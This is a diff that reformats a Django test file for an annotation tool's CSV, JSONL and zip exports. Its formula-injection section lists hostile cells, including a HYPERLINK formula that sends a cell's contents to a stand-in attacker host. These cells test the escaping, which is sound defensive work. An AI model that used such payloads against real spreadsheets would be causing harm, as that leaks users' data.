@@ -30,14 +30,25 @@ def labelled(project, annotator, other_annotator, lead):
     third = make_member(project, username="tia-annotator")
     red = imports.save_image_asset(data=image_bytes("red"))
     blue = imports.save_image_asset(data=image_bytes("blue", "PNG"))
-    a = ItemFactory(project=project, external_id="a", text="Mum and baby", image=red, split="train",
-                    metadata={"title": "Family", "inference_order": ["desire", "sentiment", "emotion"]})
+    a = ItemFactory(
+        project=project,
+        external_id="a",
+        text="Mum and baby",
+        image=red,
+        split="train",
+        metadata={"title": "Family", "inference_order": ["desire", "sentiment", "emotion"]},
+    )
     b = ItemFactory(project=project, external_id="b", text="", image=blue, split="dev")
     c = ItemFactory(project=project, external_id="c", text="A quiet lake, nobody around", split="test")
     d = ItemFactory(project=project, external_id="d", text="Same photo, new caption", image=red, split="train")
     rows = [
         AnnotationRow(a.pk, annotator.pk, LABELS, inference_order=("desire", "sentiment", "emotion"), duration_ms=1200),
-        AnnotationRow(a.pk, other_annotator.pk, {**LABELS, "desire": "romance"}, inference_order=("sentiment", "emotion", "desire")),
+        AnnotationRow(
+            a.pk,
+            other_annotator.pk,
+            {**LABELS, "desire": "romance"},
+            inference_order=("sentiment", "emotion", "desire"),
+        ),
         AnnotationRow(a.pk, third.pk, LABELS, duration_ms=800),
         AnnotationRow(a.pk, annotator.pk, {"sentiment": "neutral"}, round="text", duration_ms=300),
         AnnotationRow(b.pk, annotator.pk, {"desire": "none", "sentiment": "neutral", "emotion": "neutral"}),
@@ -70,8 +81,13 @@ def vote_set(project) -> set:
     return {
         (ext, name.removesuffix(suffix), round_, task, label, tuple(order), duration)
         for ext, name, round_, task, label, order, duration in Vote.objects.filter(item__project=project).values_list(
-            "item__external_id", "annotator__username", "round", "task__key", "label__key",
-            "annotation__inference_order", "annotation__duration_ms",
+            "item__external_id",
+            "annotator__username",
+            "round",
+            "task__key",
+            "label__key",
+            "annotation__inference_order",
+            "annotation__duration_ms",
         )
     }
 
@@ -88,10 +104,18 @@ def test_the_csv_export_has_one_row_per_item_with_gold_columns_and_every_vote(la
     assert a["image"].startswith("images/") and a["image"].endswith(".jpg")
     votes = json.loads(a["votes"])
     assert [(v["annotator"], v["round"]) for v in votes] == [
-        ("ana-annotator", "multimodal"), ("otto-annotator", "multimodal"), ("tia-annotator", "multimodal"), ("ana-annotator", "text"),
+        ("ana-annotator", "multimodal"),
+        ("otto-annotator", "multimodal"),
+        ("tia-annotator", "multimodal"),
+        ("ana-annotator", "text"),
     ]
-    assert votes[0] == {"annotator": "ana-annotator", "round": "multimodal", "inference_order": ["desire", "sentiment", "emotion"],
-                        "duration_ms": 1200, "labels": LABELS}
+    assert votes[0] == {
+        "annotator": "ana-annotator",
+        "round": "multimodal",
+        "inference_order": ["desire", "sentiment", "emotion"],
+        "duration_ms": 1200,
+        "labels": LABELS,
+    }
     assert rows[1]["gold_desire_source"] == "adjudicated"
 
 
@@ -115,7 +139,10 @@ def test_export_queries_grow_with_chunks_of_items_not_with_votes(labelled, monke
 
     before = count_queries()
     extra = [make_member(labelled, username=f"extra-{i}") for i in range(5)]
-    write_annotations(project=labelled, rows=[AnnotationRow(i.pk, u.pk, LABELS) for i in Item.objects.filter(project=labelled) for u in extra])
+    write_annotations(
+        project=labelled,
+        rows=[AnnotationRow(i.pk, u.pk, LABELS) for i in Item.objects.filter(project=labelled) for u in extra],
+    )
     assert count_queries() == before
     assert before <= 4 + 3 * 3  # schema and names, then items / gold / votes per chunk
 
@@ -126,7 +153,12 @@ def test_an_msed_zip_export_holds_the_release_layout(labelled):
 
     assert filename.endswith("-msed.zip") and content_type == "application/zip"
     assert set(archive.namelist()) == {
-        "train/train.csv", "train/images/1.jpg", "train/images/2.jpg", "dev/dev.csv", "dev/images/1.jpg", "test/test.csv",
+        "train/train.csv",
+        "train/images/1.jpg",
+        "train/images/2.jpg",
+        "dev/dev.csv",
+        "dev/images/1.jpg",
+        "test/test.csv",
     }
     train = list(csv.DictReader(io.StringIO(archive.read("train/train.csv").decode())))
     assert list(train[0])[:6] == ["Title", "Caption", "Sentiment", "Emotion", "Desire", "Inference Sequence"]
@@ -155,10 +187,17 @@ def test_a_csv_zip_round_trip_keeps_items_gold_and_votes(labelled, lead, tmp_pat
     assert item_set(copy) == item_set(labelled)
     assert gold_set(copy) == gold_set(labelled)
     assert vote_set(copy) == vote_set(labelled)
-    assert list(Item.objects.filter(project=copy).order_by("external_id").values_list("vote_count", flat=True)) == [3, 2, 1, 0]
+    assert list(Item.objects.filter(project=copy).order_by("external_id").values_list("vote_count", flat=True)) == [
+        3,
+        2,
+        1,
+        0,
+    ]
 
 
-def test_a_jsonl_round_trip_matches_votes_to_members_with_the_same_username(labelled, lead, annotator, other_annotator, tmp_path):
+def test_a_jsonl_round_trip_matches_votes_to_members_with_the_same_username(
+    labelled, lead, annotator, other_annotator, tmp_path
+):
     out = tmp_path / "out" / "items.jsonl"
     counts = exports.write_export(project=labelled, fmt="jsonl", path=out, with_images=True)
     copy = _new_project(lead, "Copy via jsonl")
@@ -209,7 +248,16 @@ def test_an_msed_export_refuses_a_folder_that_is_not_empty(labelled, tmp_path):
 # ----------------------------------------------------------------- CSV formula injection
 
 # Texts a spreadsheet would run as formulas, and texts that look escaped already.
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+3+3", "@SUM(1+1)", "-2+3", "'=1+2", "''+1", "'plain quote", "2-3"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+3+3",
+    "@SUM(1+1)",
+    "-2+3",
+    "'=1+2",
+    "''+1",
+    "'plain quote",
+    "2-3",
+]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -225,7 +273,10 @@ def hostile(project, annotator):
         for value in HOSTILE
     ]
     sneaky = make_member(project, username="@evil")
-    write_annotations(project=project, rows=[AnnotationRow(items[0].pk, sneaky.pk, LABELS), AnnotationRow(items[0].pk, annotator.pk, LABELS)])
+    write_annotations(
+        project=project,
+        rows=[AnnotationRow(items[0].pk, sneaky.pk, LABELS), AnnotationRow(items[0].pk, annotator.pk, LABELS)],
+    )
     Gold.objects.create(item=items[1], task=desire, label=family, source=Gold.Source.IMPORTED)
     return project
 
@@ -237,8 +288,21 @@ def csv_cells(text: str) -> list[str]:
 def test_escaping_is_the_owasp_rule_and_unescaping_inverts_it_exactly():
     from annotator.io.writers import escape_formula, unescape_formula
 
-    cases = {"=1+2": "'=1+2", "+3": "'+3", "-2+3": "'-2+3", "@SUM(1)": "'@SUM(1)", "\tx": "'\tx", "\rx": "'\rx",
-             "'=1+2": "''=1+2", "''@x": "'''@x", "'plain": "'plain", "2-3": "2-3", "": "", "'": "'", "a=b": "a=b"}
+    cases = {
+        "=1+2": "'=1+2",
+        "+3": "'+3",
+        "-2+3": "'-2+3",
+        "@SUM(1)": "'@SUM(1)",
+        "\tx": "'\tx",
+        "\rx": "'\rx",
+        "'=1+2": "''=1+2",
+        "''@x": "'''@x",
+        "'plain": "'plain",
+        "2-3": "2-3",
+        "": "",
+        "'": "'",
+        "a=b": "a=b",
+    }
     for value, escaped in cases.items():
         assert escape_formula(value) == escaped
         assert unescape_formula(escape_formula(value)) == value
@@ -290,7 +354,9 @@ def test_the_export_command_escapes_by_default_and_writes_raw_values_with_raw(ho
     from django.core.management import call_command
 
     call_command("export_items", hostile.slug, str(tmp_path / "safe.csv"), "--format", "csv", stdout=io.StringIO())
-    call_command("export_items", hostile.slug, str(tmp_path / "raw.csv"), "--format", "csv", "--raw", stdout=io.StringIO())
+    call_command(
+        "export_items", hostile.slug, str(tmp_path / "raw.csv"), "--format", "csv", "--raw", stdout=io.StringIO()
+    )
 
     assert [r["id"] for r in csv.DictReader((tmp_path / "raw.csv").open(newline=""))] == HOSTILE
     assert not [c for c in csv_cells((tmp_path / "safe.csv").read_text()) if c.startswith(TRIGGERS)]
